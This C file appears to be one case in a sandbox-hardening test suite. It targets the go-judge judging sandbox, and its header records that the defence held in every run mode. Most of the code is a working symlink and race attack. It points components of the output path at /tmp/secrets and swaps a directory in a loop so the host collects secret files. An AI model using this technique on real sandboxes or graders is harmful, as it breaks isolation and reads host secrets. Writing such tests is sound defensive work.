/* Case: C197 go-judge-linked-parents
 * Attacks: read-only-root
 * Seen: go-judge 96ee886, 74482b8, c95a65a (2025)
 * Run: first => held
 * Run: middle => held
 * Run: last => held
 * Run: swapped => held
 * Collect: a/b/answer, which the control may leave
 * Judge: poll /box/a/b/answer
 * Undefended: judge
 * Control: leaves a plain answer two directories down
 *
 * Links were resolved on the host's side. A link stands at each component of the output's path in turn, and then comes and
 * goes while the answer is taken out. */
#include <sys/stat.h>

#include "attack.h"

static _Noreturn void swap(void)
{
	setsid();
	for (;;) {
		rename("/box/a/b", "/box/a/was");
		symlink("/tmp/secrets", "/box/a/b");
		unlink("/box/a/b");
		rename("/box/a/was", "/box/a/b");
	}
}

int main(int argc, char **argv)
{
	mkdir("/box/a", 0755);
#ifdef CONTROL
	(void)argc, (void)argv, (void)swap;
	mkdir("/box/a/b", 0755);
	FILE *f = fopen("/box/a/b/answer", "w");
	return f != NULL && fputs("42", f) >= 0 && fclose(f) == 0 ? fine() : 1;
#endif
	const char *how = argc > 1 ? argv[1] : "first";
	if (strcmp(how, "first") == 0) {
		mkdir("/box/real", 0755);
		rmdir("/box/a");
		symlink("/tmp/secrets", "/box/real/b");
		symlink("real", "/box/a");
	} else if (strcmp(how, "middle") == 0)
		symlink("/tmp/secrets", "/box/a/b");
	else
		mkdir("/box/a/b", 0755);
	if (strcmp(how, "last") == 0)
		symlink("/tmp/secrets/file", "/box/a/b/answer");
	if (strcmp(how, "swapped") == 0 && fork() == 0)
		swap();
	return HELD;
}
